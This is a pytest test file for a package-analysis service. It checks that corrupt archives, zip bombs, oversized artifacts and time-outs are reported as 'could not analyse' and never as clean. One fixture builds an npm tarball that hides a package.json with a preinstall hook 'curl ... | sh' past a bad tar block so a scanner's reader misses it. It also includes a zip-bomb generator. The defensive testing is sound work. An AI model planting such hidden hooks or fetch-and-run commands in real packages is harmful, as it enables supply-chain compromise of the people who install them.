""" "Could not analyse" through the platform (docs/security.md): an archive or a package the
analyser cannot read whole fails its job with the reason, never completes as clean;
`GET /reports?purl=` answers 409 `could_not_analyse` with the reason and when; a lockfile's
or batch's summary (`POST /jobs/summary`) counts it apart from every verdict.

Real PostgreSQL, Redis, worker and the registries pip and npm are configured for. Every
archive here is built by the test from harmless strings; nothing is ever executed."""

from __future__ import annotations

import gzip
import io
import json
import re
import tarfile
import time
import uuid
import zipfile
from datetime import datetime
from typing import Any

import pytest
from django.test import Client

from package_analysis.analysis import stages
from package_analysis.models import AnalysisReport, Job

from .test_analyze import PKG_INFO, SETUP_PY, dispatch, job, run_worker, sdist, upload

pytestmark = pytest.mark.django_db(transaction=True)

MiB = 1024 * 1024


def summary(client: Client, ids: list[str]) -> Any:
    return client.post(
        "/jobs/summary", data=json.dumps({"ids": ids}), content_type="application/json"
    )


def _tar(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def trailer_cut() -> bytes:
    """A tar.gz whose tar is whole but whose gzip lost its last bytes: pip's reader takes it."""
    return sdist({"setup.py": SETUP_PY, "PKG-INFO": PKG_INFO})[:-4]


def zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("totally_harmless-0.0.1.dist-info/METADATA", PKG_INFO)
        zf.writestr("totally_harmless/zeros.bin", b"\0" * (64 * MiB))
    return buf.getvalue()


def npm_hidden_install_hook() -> bytes:
    """An npm tarball whose package.json sits past a bad block: tarfile stops before it, npm's
    reader skips the block and installs it (with the hook)."""
    first = _tar({"package/README.md": b"A harmless readme.\n"}).rstrip(b"\0")
    first += b"\0" * (-len(first) % 512)
    manifest = {
        "name": "hidden-hook",
        "version": "1.0.0",
        "scripts": {"preinstall": "curl -s http://203.0.113.7/x.sh | sh"},
    }
    hidden = _tar({"package/package.json": json.dumps(manifest).encode()})
    return gzip.compress(first + b"\x01" * 512 + hidden)


@pytest.mark.parametrize(
    ("make", "name", "reason"),
    [
        (trailer_cut, "cut-0.0.1.tar.gz", r"^Archive is truncated or corrupt \(gzip\)"),
        (zip_bomb, "bomb-0.0.1.zip", r"^Unpacking stopped: compression ratio above 200:1"),
    ],
    ids=["gzip-trailer-cut", "zip-bomb"],
)
def test_a_hostile_archive_fails_the_job_with_its_reason_never_clean(
    client: Client, make: Any, name: str, reason: str
) -> None:
    queued = upload(client, make(), name)
    assert queued.status_code == 202, queued.content
    run_worker()
    done = job(client, queued.json()["id"])
    assert (done["status"], done["result"]) == ("failed", None)
    assert re.match(reason, done["error"]), done["error"]
    assert not AnalysisReport.objects.filter(job_id=done["id"]).exists()
    report = client.get(f"/jobs/{done['id']}/report")
    assert report.status_code == 409 and done["error"] in report.json()["error"]["message"]
    tally = summary(client, [done["id"]]).json()
    assert (tally["could_not_analyse"], tally["clean"]) == (1, 0)
    assert tally["unanalysed"][0]["reason"] == done["error"]


class _Clock:
    """The pipeline's clock, 200 s further on at each reading: the analysis outlives
    ANALYSIS_TIMEOUT_SECONDS (300) within a few looks, whatever this machine's speed."""

    def __init__(self) -> None:
        self.now = 0.0

    def monotonic(self) -> float:
        self.now += 200.0
        return self.now

    def __getattr__(self, name: str) -> Any:
        return getattr(time, name)


def test_an_analysis_past_its_time_limit_fails_with_that_reason(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(stages, "time", _Clock())  # the run state's clock (stages.Run)
    queued = upload(client, sdist({"setup.py": SETUP_PY, "PKG-INFO": PKG_INFO}), "t.tar.gz")
    run_worker()
    done = job(client, queued.json()["id"])
    assert (done["status"], done["result"]) == ("failed", None)
    # Out of time before unpacking, or while the sandbox unpacks (its wall clock is what was
    # left, 0.1 s at least): either way the sentence names the limit.
    assert re.fullmatch(
        r"(Analysis stopped: took longer than 300 s|Unpacking stopped: the time left \(0\.1 s\)"
        r" ran out) \(ANALYSIS_TIMEOUT_SECONDS\)",
        done["error"],
    ), done["error"]
    assert summary(client, [done["id"]]).json()["could_not_analyse"] == 1


def test_an_npm_install_hook_hidden_past_a_bad_block_is_seen(client: Client) -> None:
    queued = upload(client, npm_hidden_install_hook(), "hidden-hook-1.0.0.tgz", "npm").json()
    run_worker()
    done = job(client, queued["id"])
    assert done["status"] == "completed", done["error"]
    assert done["result"]["verdict"] != "clean", done["result"]
    findings = client.get(f"/jobs/{done['id']}/report").json()["findings"]
    assert any(f["file"].endswith("package.json") for f in findings), findings


def test_an_artifact_over_the_limit_answers_could_not_analyse_by_purl(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ANALYSIS_MAX_ARTIFACT_BYTES", "1000")
    first = dispatch(client, {"purl": "pkg:pypi/IDNA@3.7"})
    assert first["params"]["purl"] == "pkg:pypi/idna@3.7"  # kept canonical
    run_worker()
    failed = job(client, first["id"])
    assert failed["status"] == "failed"
    assert "ANALYSIS_MAX_ARTIFACT_BYTES" in failed["error"], failed["error"]

    for purl in ("pkg:pypi/idna@3.7", "pkg:pypi/IDNA", "pkg:pypi/idna"):
        for fmt in ("json", "sarif"):
            answer = client.get("/reports", {"purl": purl, "format": fmt})
            assert answer.status_code == 409, (purl, fmt, answer.content)
            error = answer.json()["error"]
            assert error["code"] == "could_not_analyse"
            assert error["message"] == f"pkg:pypi/idna@3.7 could not be analysed: {failed['error']}"
            details = error["details"]
            assert details == {
                "job": first["id"],
                "purl": "pkg:pypi/idna@3.7",
                "reason": failed["error"],
                "failed_at": failed["completed_at"],
                "source": "registry",
            }
            assert datetime.fromisoformat(details["failed_at"]) > datetime.fromisoformat(
                failed["created_at"]
            )
    assert client.get("/reports", {"purl": "pkg:pypi/idna@3.6"}).status_code == 404

    # The newest analysis answers: once one completes, its report does.
    monkeypatch.delenv("ANALYSIS_MAX_ARTIFACT_BYTES")
    second = dispatch(client, {"purl": "pkg:pypi/idna@3.7"})
    run_worker()
    assert job(client, second["id"])["status"] == "completed"
    latest = client.get("/reports", {"purl": "pkg:pypi/idna@3.7"})
    assert latest.status_code == 200 and latest.json()["job"] == second["id"]
    # ... and a failure after it answers again: never an older verdict over a newer failure.
    monkeypatch.setenv("ANALYSIS_MAX_ARTIFACT_BYTES", "1000")
    third = dispatch(client, {"purl": "pkg:pypi/idna@3.7", "force": True})
    run_worker()
    again = client.get("/reports", {"purl": "pkg:pypi/idna@3.7"})
    assert again.status_code == 409 and again.json()["error"]["details"]["job"] == third["id"]

    tally = summary(client, [first["id"], second["id"], third["id"], str(uuid.uuid4())]).json()
    assert {k: tally[k] for k in ("total", "clean", "could_not_analyse", "pending")} == {
        "total": 3, "clean": 1, "could_not_analyse": 2, "pending": 0
    }  # fmt: skip
    assert [u["job"] for u in tally["unanalysed"]] == [first["id"], third["id"]]
    assert len(tally["not_found"]) == 1


def test_a_lockfile_summary_counts_could_not_analyse_apart(client: Client) -> None:
    requirements = b"idna==3.7\npackamal-no-such-package-4f1c9e==1.0\n"
    answer = client.post(
        "/analyze/lockfile", {"file": _named(requirements, "requirements.txt")}
    ).json()
    ids = [item["id"] for item in answer["items"]]
    assert len(ids) == 2
    before = summary(client, ids).json()
    assert (before["pending"], before["clean"], before["could_not_analyse"]) == (2, 0, 0)
    run_worker()
    after = summary(client, ids).json()
    assert {k: after[k] for k in ("total", "pending", "malicious", "suspicious", "clean")} == {
        "total": 2, "pending": 0, "malicious": 0, "suspicious": 0, "clean": 1
    }  # fmt: skip
    assert after["could_not_analyse"] == 1
    (missing,) = after["unanalysed"]
    assert missing["purl"] == "pkg:pypi/packamal-no-such-package-4f1c9e@1.0"
    assert missing["reason"].startswith("No such package"), missing
    by_purl = client.get("/reports", {"purl": missing["purl"]})
    assert by_purl.status_code == 409
    assert by_purl.json()["error"]["details"]["reason"] == missing["reason"]


def test_a_failed_upload_never_answers_for_a_purl(client: Client) -> None:
    queued = upload(client, trailer_cut(), "totally-harmless-0.0.1.tar.gz").json()
    run_worker()
    assert job(client, queued["id"])["status"] == "failed"
    for uploads in ("false", "true"):
        answer = client.get(
            "/reports", {"purl": "pkg:pypi/totally-harmless@0.0.1", "uploads": uploads}
        )
        assert answer.status_code == 404, answer.content


@pytest.mark.parametrize(
    ("body", "where"),
    [
        ({"ids": []}, "ids"),
        ({"ids": ["not-a-uuid"]}, "ids"),
        ({"ids": [str(uuid.uuid4())] * 5001}, "ids"),
        ({"ids": [str(uuid.uuid4())], "extra": 1}, "extra"),
    ],
)
def test_summary_refuses_bad_bodies(client: Client, body: dict[str, Any], where: str) -> None:
    response = client.post("/jobs/summary", data=json.dumps(body), content_type="application/json")
    assert response.status_code == 422, response.content
    assert where in response.json()["error"]["message"]
    assert Job.objects.count() == 0


def _named(data: bytes, name: str) -> io.BytesIO:
    f = io.BytesIO(data)
    f.name = name
    return f
